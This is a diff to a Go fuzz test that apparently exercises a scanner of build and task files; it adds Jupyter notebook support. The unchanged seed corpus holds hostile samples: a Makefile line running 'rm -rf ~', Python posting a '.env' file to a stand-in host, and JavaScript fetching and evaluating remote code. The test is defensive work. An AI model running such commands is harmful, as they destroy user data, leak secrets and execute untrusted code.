@@ -95,12 +95,12 @@ func FuzzFiles(f *testing.F) {
 		"x.sh", "Makefile", "package.json", "justfile", "Taskfile.yml", "x.sql", "x.py", ".git/config",
 		"Rakefile", "tasks.py", "noxfile.py", "tox.ini", "CMakeLists.txt", "x.cmake", "BUILD.bazel", "build.xml", "pom.xml",
 		"compose.yml", ".github/workflows/x.yml", "x.js", "x.rb", "x.pl", "x.php", "x.yml", "Procfile", "conftest.py",
-		"magefile.go", "x.R",
+		"magefile.go", "x.R", "x.ipynb",
 	}
 	commands := "bash x.sh\n./x.sh\nmake\nnpm run a\njust a\ntask a\npsql -f x.sql\npython x.py\ngit commit -m x\n" +
 		"rake x:a\ninv a\nnox -s a\ntox -e a\ncmake --build . --target a\ncmake -P x.cmake\nbazel run //:a\nant a\n" +
 		"mvn -Px verify\ndocker compose run a\nact -P x=-self-hosted\nnode x.js\nruby x.rb\nperl x.pl\nphp x.php\n" +
-		"ansible-playbook x.yml\nforeman start\npytest\nmage a\nRscript x.R"
+		"ansible-playbook x.yml\nforeman start\npytest\nmage a\nRscript x.R\njupyter execute x.ipynb"
 	f.Add("a:\n\t$(shell rm -rf ~)\n")
 	f.Add("{\"scripts\": {\"a\": \"x\"}}")
 	f.Add("a b='c': d\n    {{b}}\n")
@@ -118,6 +118,7 @@ func FuzzFiles(f *testing.F) {
 	f.Add("with open('.env') as f:\n  d = f.read()\nrequests.post('http://x.example', data=d)\n[x.unlink() for x in y]\n")
 	f.Add("const a = await (await fetch('http://x')).text(); eval(a); ['r','m'].join(''); push @a, $_; unlink @a")
 	f.Add("case $1 in a*b) x;; esac; [ \"$1\" = x ] || exit; define a\nendef")
+	f.Add(`{"cells":[{"cell_type":"code","source":["%%bash\n","x\n","!y"]}],"metadata":{"kernelspec":{"language":"r"}}}`)
 	f.Fuzz(func(t *testing.T, text string) {
 		var files []string
 		for _, name := range names {
